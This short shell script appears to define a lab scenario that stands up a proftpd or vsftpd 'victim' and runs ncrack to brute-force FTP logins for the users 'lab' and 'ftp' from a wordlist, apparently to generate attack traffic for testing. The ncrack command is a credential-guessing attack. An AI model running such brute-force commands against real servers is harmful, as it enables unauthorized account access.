# SPDX-License-Identifier: MIT
# label: bruteforce-ftp
# source: lab-ncrack
# needs: ncrack proftpd vsftpd
# seconds: 60
# Passwords for ftp by ncrack, to a neighbour.
. $lab/victims.sh

servers() {
	_server=$(choose proftpd vsftpd)
	"victim_$_server" f
	words_up 60
}

scenario() {
	_limit=$(choose "" "-g CL=1" "-g CL=4")
	setting options "$_limit against $_server"
	attack b f tcp 21 -- timeout 50 ncrack $_limit --user lab,ftp -P "$work/words" -p ftp:21 \
		"$(addr f)"
}
